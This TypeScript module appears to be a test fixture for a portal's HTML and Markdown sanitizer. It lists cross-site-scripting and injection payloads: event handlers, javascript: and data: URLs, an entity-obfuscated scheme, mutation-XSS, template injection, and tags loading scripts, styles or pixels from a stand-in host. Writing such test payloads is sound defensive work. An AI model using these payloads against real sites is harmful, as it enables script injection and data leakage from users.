/** An address outside the portal; whoever asks it for something gave away that a text was obeyed. */
export const elsewhere = "https://afuera.example";

/** Texts that try to run, load or lead away: tags, handlers, addresses, Markdown, templates, entities, broken markup. */
export const hostileTexts = [
  "<script>alert('script')</script>",
  `<script src="${elsewhere}/x.js"></script>`,
  "<img src=x onerror=alert('img')>",
  "\"><img src=x onerror=alert('quote')>",
  "'><svg/onload=alert('svg')>",
  "<svg><animate onbegin=alert('animate') attributeName=x dur=1s>",
  "<details open ontoggle=alert('details')>x</details>",
  "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
  "<iframe src=\"javascript:alert('iframe')\"></iframe>",
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert('mxss')&gt;\">",
  `<link rel=stylesheet href="${elsewhere}/x.css">`,
  `<style>@import url("${elsewhere}/x.css");*{background:url("${elsewhere}/x.png")}</style>`,
  `<img src="${elsewhere}/pixel.png">`,
  `![una imagen](${elsewhere}/imagen.png)`,
  "[siga](javascript:alert('markdown'))",
  "[siga](jAvAsCrIpT&colon;alert('entity'))",
  "[siga](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "<a href=\"java&#09;script:alert('tab')\">siga</a>",
  `<base href="${elsewhere}/">`,
  `<meta http-equiv="refresh" content="0;url=${elsewhere}/">`,
  `<form action="${elsewhere}/"><button autofocus onfocus=alert('focus')>x</button></form>`,
  "{{constructor.constructor('alert(1)')()}}",
  "</title></textarea></script><script>alert('breakout')</script>",
];
